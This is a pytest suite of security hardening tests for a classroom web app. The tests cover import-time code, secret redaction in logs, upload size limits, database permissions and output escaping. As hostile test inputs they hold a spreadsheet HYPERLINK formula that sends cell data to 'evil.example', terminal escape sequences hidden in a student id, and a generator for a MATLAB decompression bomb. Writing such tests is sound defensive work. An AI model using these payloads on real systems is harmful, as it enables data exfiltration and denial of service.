"""What an attacker on a class network, or a careless file, could do to the server: none of it works.

Each test here failed on 58ceb4b (the release before these checks): a module
that ran code when imported by Panel's ``/components/`` route, secrets in the
log, a decompression bomb, an upload that closed the websocket, a settings file
or a field that broke the page, a damaged hand-in database, formulas and
terminal escapes in the teacher's outputs. The served checks (a scan of
``/components/``, foreign origins) are in ``tests/serve/test_hardening.py``.
"""

from __future__ import annotations

import io
import json
import logging
import os
import sqlite3
import stat
import struct
import subprocess
import sys
import threading
import tracemalloc
import zlib
from pathlib import Path

import numpy as np
import pytest

from eha_app.runtime.handins import HandIns, StoreError, handins_path
from eha_app.runtime.redaction import RedactingFilter, keep_out_of_logs, number_forms
from eha_app.session import MAX_SETTINGS_BYTES, SETTINGS_FORMAT, SettingsError
from eha_app.session.state import MAX_TEXT_CHARS, AppState
from eha_core.data import MAX_DATA_BYTES, DataError, csv_cell, read_data, write_data
from eha_core.exercise import Exercise

ROOT = Path(__file__).resolve().parents[2]
HIDE = ("M", "B", "Af", "beta_e")


# -- 1. no module of ours runs code on import -----------------------------------------------------

def test_no_module_of_the_project_runs_code_when_imported():
    """Panel's /components/ route imported any module a URL named: `eha_app.cli.__main__` re-read the
    server's command line and exited. Every module imports quietly, whatever the command line."""
    code = r"""
import importlib, pkgutil, sys
sys.argv = ["eha", "serve", "--port", "1", "--exercise", "nothing.json"]
names = []
for package in ("eha_core", "eha_app", "benchmarks"):
    mod = importlib.import_module(package)
    names += [package] + [m.name for m in pkgutil.walk_packages(mod.__path__, package + ".")]
names += ["tools.screenshots"]
for name in names:
    importlib.import_module(name)
print("imported", len(names))
"""
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-2000:]
    lines = out.stdout.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("imported"), out.stdout[-2000:]
    assert int(lines[0].split()[1]) > 60                          # the whole project was walked
    assert "eha: error" not in out.stderr


def test_the_components_route_is_guarded_once_the_server_is_prepared(monkeypatch):
    import panel.io.server as panel_server
    from panel.io.server import get_static_routes

    from eha_app.runtime.patches import WRITTEN_FOR, component_allowed, refuse_foreign_components

    # the guard is process-wide (a server's); put Panel's own handler back after the test
    monkeypatch.setattr(panel_server, "ComponentResourceHandler", panel_server.ComponentResourceHandler)
    refuse_foreign_components()
    refuse_foreign_components()                                   # twice is once
    (route, handler, _), = get_static_routes({})
    assert route == "/components/(.*)" and getattr(handler, "eha_guarded", False)
    assert handler.__mro__[1].__name__ == "ComponentResourceHandler"   # not wrapped twice
    import eha_app.session.form  # noqa: F401 - a component module the page loads

    assert not component_allowed("this/x/_css/a")
    assert not component_allowed("eha_app.cli.__main__/x/_css/a")
    assert not component_allowed("eha_app.eha/x/_css/a")           # the entry script: never a module
    assert not component_allowed("os/system/_css/a")
    assert not component_allowed("eha_app.app/create_app/_css/a")  # a function, not a component
    assert component_allowed("eha_app.session.form/Form/_stylesheets/x.css")
    # the versions the patch was written for: an upgrade fails here, to be checked by hand
    import bokeh
    import panel

    for lib, version in (("panel", panel.__version__), ("bokeh", bokeh.__version__)):
        assert version.startswith(WRITTEN_FOR[lib] + "."), (lib, version)


# -- 2. secrets stay out of reprs and logs ---------------------------------------------------------

@pytest.fixture
def exercise(tmp_path, monkeypatch):
    ex = Exercise.new(hide=HIDE, vary=0.25, tolerance=0.05, title="Lab 3")
    path = tmp_path / "class.json"
    ex.save(path)
    monkeypatch.setenv("EHA_EXERCISE", str(path))
    return ex, path


def _leaks(text: str, ex: Exercise, student: str) -> list[str]:
    """The secret and the student's hidden values (at 5 or more significant digits) found in ``text``."""
    truth = ex.student_params(student)
    found = [ex.secret] if ex.secret in text else []
    for n in ex.hide:
        found += [f"{n}={form}" for form in number_forms(getattr(truth, n)) if form in text]
    return found


def test_the_exercise_and_the_state_leave_their_secrets_out_of_repr(exercise):
    ex, _ = exercise
    state = AppState()
    state.start_exercise(ex, "ada")
    for text in (repr(ex), str(ex), repr(state), str(state), repr(state.param)):
        assert not _leaks(text, ex, "ada"), text


def _start(ex_path, student="ada"):
    from eha_app.app import create_app

    state = AppState()
    page = create_app(state)
    page.gate.student_id.value = student
    page.gate.start()
    assert state.student == student
    return page, state


def _every_job(page, nan_upload: bytes, round_: int):
    """Start every kind of computation an exercise page offers (in round 2, over round 1's results)."""
    session = page.session
    sim = session.build("simulation")
    sim.run("linear")
    sim.run("nonlinear")
    lse = session.build("least_squares")
    lse.run()
    lse.hand_in()
    lse._upload = (nan_upload, "with_nan.csv")
    lse.read_upload()
    freq = session.build("frequency")
    freq.run()
    freq.form.set_values(n_samples=str(900 + 10 * round_))          # a new excitation: its preview
    record = freq.record
    if round_ == 1:
        record.upload.filename, record.upload.value = "loop.csv", freq.data_bytes("csv")
    else:
        record.upload.filename, record.upload.value = "loop2.csv", freq.data_bytes("csv") + b"\n"
    record.run()
    board = page.show("board")                                    # on show: it computes as tab 1 changes
    board.show_view("step")                                       # the views and the plant's step too
    session.state.set_text("kp", str(10 + round_))               # the board's record and step again
    board.fits.clear()                                            # every model's fit again: the views' job
    board._compute_missing()
    page.report_button.clicks += 1


def test_no_secret_reaches_the_log_when_every_job_fails(exercise, monkeypatch, caplog):
    """A failed job was logged with its owner's repr: the exercise with its key and the student's
    hidden values. Every kind of job fails here (each after doing its work); the log has neither."""
    from eha_app.runtime import tasks

    ex, path = exercise
    real_run = tasks.SessionRunner.run
    labels = []
    failing = False

    def failing_run(self, label, compute, show, **kwargs):
        if not failing:
            return real_run(self, label, compute, show, **kwargs)
        labels.append(label)

        def compute_then_fail(token):
            compute(token)
            raise RuntimeError(f"{label} failed on purpose")
        return real_run(self, label, compute_then_fail, show, **kwargs)

    monkeypatch.setattr(tasks.SessionRunner, "run", failing_run)
    caplog.set_level(logging.DEBUG)
    page, state = _start(path)
    lines = ["t,x,v,p1,p2,u"] + [f"{k * 1e-3},0,0,1e7,1e7,0" for k in range(60)] + ["0.06,nan,0,1e7,1e7,0"]
    nan_upload = "\n".join(lines).encode()
    _every_job(page, nan_upload, 1)                               # the results the second round starts from
    assert "nan is not finite" in caplog.text                     # the upload with a NaN: a failure of its own
    failing = True
    _every_job(page, nan_upload, 2)
    kinds = {label.split(" (")[0] for label in labels}
    assert {"simulation", "least squares", "hand-in", "reading your data", "frequency experiment",
            "excitation preview", "reading your record", "estimate from your record", "board: model views",
            "board: validation record", "board: the plant's step", "session report"} <= kinds, kinds
    text = caplog.text
    assert text.count("failed on purpose") >= len(kinds)            # every one of them was logged
    assert not _leaks(text, ex, "ada"), _leaks(text, ex, "ada")


def test_the_queue_names_a_failed_jobs_session_by_a_number(exercise, caplog):
    from eha_app.runtime.jobs import JobQueue

    ex, _ = exercise
    state = AppState()
    state.start_exercise(ex, "ada")
    queue = JobQueue(workers=1)
    done = threading.Semaphore(0)
    try:
        def refused(_token):
            raise ValueError("a NaN in the upload")

        def broken(_token):
            raise KeyError("a fault of the server's code")
        caplog.set_level(logging.INFO, logger="eha_app")
        queue.submit((state, "board"), refused, label="reading your data", on_done=lambda _j: done.release())
        assert done.acquire(timeout=30)
        queue.submit(state, broken, label="least squares", on_done=lambda _j: done.release())
        assert done.acquire(timeout=30)
    finally:
        queue.shutdown()
    assert "AppState" not in caplog.text
    # the student's bad file: a note without a traceback; a fault of the code: a warning with one
    notes = [r for r in caplog.records if "reading your data" in r.getMessage()]
    assert [r.levelname for r in notes] == ["INFO"] and "ended without a result" in notes[0].getMessage()
    assert notes[0].exc_info is None
    faults = [r for r in caplog.records if "least squares" in r.getMessage()]
    assert [r.levelname for r in faults] == ["WARNING"] and faults[0].exc_info is not None
    assert "job 'least squares' of session " in faults[0].getMessage()
    assert not _leaks(caplog.text, ex, "ada")


def test_the_audit_of_the_suites_logs_finds_a_planted_secret():
    """The check run after the whole suite (conftest.py) can fail: it finds what is planted (in a
    folder of its own: the suite's own folder is what the check searches at the end)."""
    import tempfile

    from tests.log_audit import audit

    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        ex = Exercise.new(hide=HIDE, title="Lab 3")
        ex.save(tmp / "class.json")
        HandIns(tmp / "class.json").check().add("ada", {"M": 1.0}, {"M": False})
        (tmp / "clean.log").write_text("2026-11-25 01:28:37,032 Bokeh app running at: http://127.0.0.1:5006/eha\n")
        assert audit(tmp) == []
        m = ex.student_params("ada").M
        (tmp / "leaky.log").write_text(f"job of {ex!r} failed: secret={ex.secret} M = {m:.6g} kg\n")
        found = " ".join(audit(tmp))
    assert found.count("leaky.log") == 2 and "the secret of 'Lab 3'" in found and "ada's M" in found


def test_the_log_filter_hides_registered_secrets_in_messages_and_tracebacks():
    keep_out_of_logs(4123.456789, "f00dfeedf00dfeedf00d")
    record = logging.LogRecord("eha_app", logging.WARNING, __file__, 1, "M = %s, key %s, M/10 = %s",
                               (4123.456789, "f00dfeedf00dfeedf00d", 412.3456789), None)
    try:
        raise ValueError("M = 4123.5 is not allowed")
    except ValueError:
        record.exc_info = sys.exc_info()
    assert RedactingFilter().filter(record)
    text = logging.Formatter().format(record)
    assert "4123.4" not in text and "4123.5" not in text and "f00dfeed" not in text
    assert "[hidden]" in text and "412.3456789" in text          # another number is left alone
    # a failed callback's line (Panel logs the value it was given) is cut, not logged whole
    long = logging.LogRecord("panel.reactive", logging.ERROR, __file__, 1, "Callback failed changing %s",
                             ("[" * 100_000,), None)
    assert RedactingFilter().filter(long)
    assert len(long.getMessage()) < 4100 and long.getMessage().endswith("characters more)")


# -- 3. and 4. uploads: what is read is bounded, not what is sent -----------------------------------

def mat_bomb(n_doubles: int, name: bytes = b"x") -> bytes:
    """A MATLAB v5 file whose one compressed variable inflates to ``n_doubles`` zeros (8 bytes each)."""
    name_pad = name + b"\0" * (-len(name) % 8)
    head = (struct.pack("<II", 6, 8) + struct.pack("<II", 6, 0)              # array flags: double
            + struct.pack("<II", 5, 8) + struct.pack("<ii", 1, n_doubles)    # dimensions 1 x n
            + struct.pack("<II", 1, len(name)) + name_pad)
    head = struct.pack("<II", 14, len(head) + 8 + 8 * n_doubles) + head + struct.pack("<II", 9, 8 * n_doubles)
    deflate = zlib.compressobj(9)
    parts, left, chunk = [deflate.compress(head)], 8 * n_doubles, bytes(1 << 20)
    while left > 0:
        parts.append(deflate.compress(chunk[:min(left, len(chunk))]))
        left -= len(chunk)
    parts.append(deflate.flush())
    payload = b"".join(parts)
    header = b"MATLAB 5.0 MAT-file".ljust(116, b" ") + b"\0" * 8 + struct.pack("<H", 0x0100) + b"IM"
    return header + struct.pack("<II", 15, len(payload)) + payload


def test_a_decompression_bomb_is_refused_after_reading_the_limit():
    bomb = mat_bomb(200_000_000)                                   # 1.6 GB once inflated
    assert len(bomb) < 2e6
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match=r"more than 20 MB once decompressed"):
            read_data(bomb, ("t", "u"), name="your file", filename="bomb.mat")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 3 * MAX_DATA_BYTES, peak / 1e6


def test_a_mat_file_within_the_limit_reads_and_its_declared_sizes_are_checked():
    import scipy.io

    buf = io.BytesIO()
    scipy.io.savemat(buf, {"t": np.arange(50) * 0.01, "u": np.ones(50), "note": "text", "cell": np.array([1, "a"],
                                                                                                        dtype=object)},
                     do_compression=True)
    cols = read_data(buf.getvalue(), ("t", "u"), filename="ok.mat")
    np.testing.assert_array_equal(cols["t"], np.arange(50) * 0.01)
    small = mat_bomb(1000)                                        # 8 kB: fine
    assert read_data(small, ("x",), filename="zeros.mat")["x"].size == 1000
    # a variable that declares more than the limit is refused before it is loaded
    liar = bytearray(write_data({"x": np.zeros(3)}, "mat"))
    at = liar.index(struct.pack("<ii", 1, 3))                      # its dimensions 1 x 3
    liar[at:at + 8] = struct.pack("<ii", 1, 10**7)
    with pytest.raises(DataError, match=r"variable x is declared 1 x 10000000"):
        read_data(bytes(liar), ("x",), filename="liar.mat")
    v73 = bytearray(write_data({"x": np.zeros(3)}, "mat"))
    v73[124:126] = struct.pack("<H", 0x0200)
    with pytest.raises(DataError, match=r"MATLAB v7.3 \(HDF5\)"):
        read_data(bytes(v73), ("x",), filename="new.mat")


def _csv_of_size(size: int) -> bytes:
    rng = np.random.default_rng(0)
    row = 0
    lines = [b"t,x,v,p1,p2,u"]
    total = len(lines[0]) + 1
    while True:
        line = (f"{row * 1e-3:.6f}," + ",".join(f"{rng.standard_normal():.9f}" for _ in range(5))).encode()
        if total + len(line) + 1 > size:
            break
        lines.append(line)
        total += len(line) + 1
        row += 1
    return b"\n".join(lines) + b"\n"


def test_a_csv_at_the_limit_reads_in_bounded_memory_and_one_past_it_is_refused():
    data = _csv_of_size(MAX_DATA_BYTES)
    assert MAX_DATA_BYTES - 100 < len(data) <= MAX_DATA_BYTES
    tracemalloc.start()
    try:
        cols = read_data(data, ("t", "x", "v", "p1", "p2", "u"), filename="big.csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # its numbers (six columns of 8 bytes) and a little more: the whole text is never held as cells
    assert peak < 2.5 * 6 * 8 * cols["t"].size, peak / 1e6
    np.testing.assert_allclose(np.diff(cols["t"]), 1e-3, rtol=1e-6)
    with pytest.raises(DataError, match=r"it has 20.0 MB; at most 20 MB"):
        read_data(data + b"0" * (MAX_DATA_BYTES + 1 - len(data)), ("t",), filename="over.csv")
    # a cell is repeated in a message by its start, not whole
    with pytest.raises(DataError, match=r"'aaaa+…' is not a number") as err:
        read_data(b"t,u\n0,1\n1," + b"a" * 100_000 + b"\n", ("t", "u"), filename="long.csv")
    assert len(str(err.value)) < 300


def test_the_server_takes_a_message_the_size_of_the_largest_upload():
    """A 19 MB file under the app's 20 MB limit closed the websocket (Bokeh's message limit); the
    page's uploads now refuse a file over the limit before sending it, and send raw bytes."""
    import panel as pn

    from eha_app.runtime.serving import WEBSOCKET_MAX_MESSAGE_BYTES, serve_argv
    from eha_app.sections.uploads import MAX_UPLOAD_BYTES, FileUpload
    from eha_app.session import Session

    argv = serve_argv(port=5006, address="127.0.0.1")
    limit = int(argv[argv.index("--websocket-max-message-size") + 1])
    assert limit == WEBSOCKET_MAX_MESSAGE_BYTES >= MAX_UPLOAD_BYTES + 2**16
    tab = Session(AppState())
    freq = tab.build("frequency")
    uploads = [tab.build("least_squares").upload, freq.record.upload]
    assert all(isinstance(u, FileUpload) and u.max_bytes == MAX_UPLOAD_BYTES for u in uploads)
    # no upload widget that sends a file whole, whatever its size, is left in the tab
    assert not pn.Column(tab).select(pn.widgets.FileInput)
    assert "file.size > model.max_bytes" in FileUpload._esm


# -- 5. (origins: tests/serve) -- 6. bad stored state -------------------------------------------------

def test_the_hand_in_database_is_the_teachers_only(tmp_path):
    store = HandIns(tmp_path / "class.json").check()
    store.add("ada", {"M": 4000.0}, {"M": True})
    keep = sqlite3.connect(store.path)                             # an open reader keeps the WAL files
    keep.execute("SELECT count(*) FROM handins").fetchone()
    store.add("bob", {"M": 4100.0}, {"M": False})
    files = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("class.handins"))
    assert "class.handins.sqlite" in files and len(files) >= 2, files
    for name in files:
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    keep.close()


def test_a_damaged_or_deleted_database_gets_a_message_not_a_traceback(tmp_path, caplog):
    path = tmp_path / "class.json"
    store = HandIns(path).check()
    store.add("ada", {"M": 4000.0}, {"M": True})
    for p in tmp_path.glob("class.handins.sqlite*"):
        p.unlink()                                                # deleted while the server runs
    caplog.set_level(logging.WARNING, logger="eha_app")
    # not made again behind the teacher's back (every student's attempts would start from 0): refused, and said
    with pytest.raises(StoreError, match=r"is missing: it was deleted while the server ran; put a copy back"):
        store.add("bob", {"M": 4100.0}, {"M": True})
    with pytest.raises(StoreError, match=r"is missing"):
        store.of("ada")
    assert not handins_path(path).exists()
    assert caplog.text.count("is missing (deleted while the server ran)") == 1      # once, not at every call
    assert [r.levelname for r in caplog.records] == ["ERROR"]
    store = HandIns(path).check()                                 # the server started again: an empty one
    store.add("bob", {"M": 4100.0}, {"M": True})
    assert [h.student for h in store.all()] == ["bob"]
    assert stat.S_IMODE(handins_path(path).stat().st_mode) == 0o600
    handins_path(path).write_bytes(b"not a database " * 100)
    for p in tmp_path.glob("class.handins.sqlite-*"):
        p.unlink()
    with pytest.raises(StoreError, match=r"cannot be used \(file is not a database\); move it away"):
        store.add("cid", {"M": 1.0}, {"M": True})
    with pytest.raises(StoreError, match=r"cannot be used"):
        HandIns(path).check()


def test_a_hand_in_the_database_refuses_is_said_in_the_page(exercise):
    ex, path = exercise
    page, state = _start(path)
    ident = page.session
    ident.build("least_squares").run()
    handins_path(path).write_bytes(b"garbage" * 500)
    ident.build("least_squares").hand_in()
    text = ident.build("least_squares").verdict.object
    assert "Your hand-in was not stored" in text and "Tell your teacher" in text
    assert "identification failed" not in ident.build("least_squares").alert.object


def test_the_teachers_commands_refuse_a_damaged_database_in_one_line(tmp_path, capsys):
    from eha_app.cli import main

    path = tmp_path / "class.json"
    Exercise.new(hide=HIDE).save(path)
    handins_path(path).write_bytes(b"garbage" * 500)
    assert main(["exercise", "results", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cannot be used (file is not a database)" in err and "Traceback" not in err
    assert main(["serve", "--exercise", str(path), "--port", "1"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("eha: error: --exercise = ") and "cannot be used" in err and err.count("\n") == 1


def test_settings_files_are_bounded_and_never_logged_whole(caplog):
    from eha_app.app import create_app

    page = create_app(AppState())
    caplog.set_level(logging.DEBUG)
    deep = b'{"format": "eha-settings/1", "parameters": ' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    with pytest.raises(SettingsError, match="nested too deeply"):
        page.session.load_settings(deep, "deep.json")
    with pytest.raises(SettingsError, match=r"it has 200.0 kB; at most 100 kB"):
        page.session.load_settings(b" " * 200_000, "big.json")
    long_field = json.dumps({"format": SETTINGS_FORMAT, "parameters": {"M": "1" * 70_000}}).encode()
    with pytest.raises(SettingsError, match=r"parameters.M = 1{24}…: at most 200 characters"):
        page.session.load_settings(long_field, "long.json")
    with pytest.raises(SettingsError, match=r"parameters.M is not a text or a number"):
        page.session.load_settings(b'{"format": "eha-settings/1", "parameters": {"M": [1, 2]}}', "list.json")
    assert page.session.state.texts["M"] == "4000"                    # nothing was typed
    assert "[[[[" not in caplog.text and "1111111111" not in caplog.text
    # through the page's own loader: the message beside it
    load = page.load
    load.filename, load.value = "deep.json", deep
    assert "nested too deeply" in page.settings_note.object
    assert load.max_bytes == MAX_SETTINGS_BYTES


def test_a_field_of_70000_characters_is_refused_and_kept_out_of_the_address():
    from eha_app.session.form import Field, InputError

    state = AppState()
    state.set_text("M", "1" * 70_000)
    assert state.errors["M"] == f"M = {'1' * 24}… is not allowed: at most {MAX_TEXT_CHARS} characters (it has 70000)"
    with pytest.raises(InputError, match=rf"at most {MAX_TEXT_CHARS} characters"):
        Field("ts", "Ts").parse("1" * 70_000)
    from eha_app.session.form import Form

    assert f"const MAX_CHARS = {MAX_TEXT_CHARS}" in Form._esm and "input.maxLength = MAX_CHARS" in Form._esm


# -- 7. formulas and terminal escapes ------------------------------------------------------------------

def test_results_neutralise_formulas_in_the_csv_and_escapes_on_the_terminal(tmp_path, capsys):
    from eha_app.cli import main

    path = tmp_path / "class.json"
    Exercise.new(hide=("M",)).save(path)
    store = HandIns(path).check()
    store.add('=HYPERLINK("http://evil.example/?"&A1,"click")', {"M": 4000.0}, {"M": True})
    store.add("mallory\x1b[2J\x1b]0;pwned\x07", {"M": 4000.0}, {"M": False})   # typed before ids were checked
    out_csv = tmp_path / "results.csv"
    assert main(["exercise", "results", str(path), "--csv", str(out_csv)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\x07" not in shown and "mallory\\x1b[2J" in shown
    import csv

    cells = [c for row in csv.reader(out_csv.open(encoding="utf-8")) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert csv_cell("-3.5") == "-3.5" and csv_cell("-cmd") == "'-cmd"
    with pytest.raises(ValueError, match="control character"):
        Exercise.new(hide=("M",)).student_params("eve\x1b[31m")
    assert main(["exercise", "reveal", str(path), "--student", "ada\x1b[2J"]) == 2
    assert "\x1b" not in capsys.readouterr().err


def test_every_file_the_app_writes_neutralises_formulas():
    blob = write_data({"t": np.arange(3.0), "=cmd": np.ones(3)}, "csv")
    assert blob.splitlines()[0] == b"t,'=cmd"


@pytest.mark.parametrize("mode", [0o600])
def test_the_exercise_file_itself_stays_private(tmp_path, mode):
    path = tmp_path / "class.json"
    Exercise.new(hide=("M",)).save(path)
    assert stat.S_IMODE(os.stat(path).st_mode) == mode
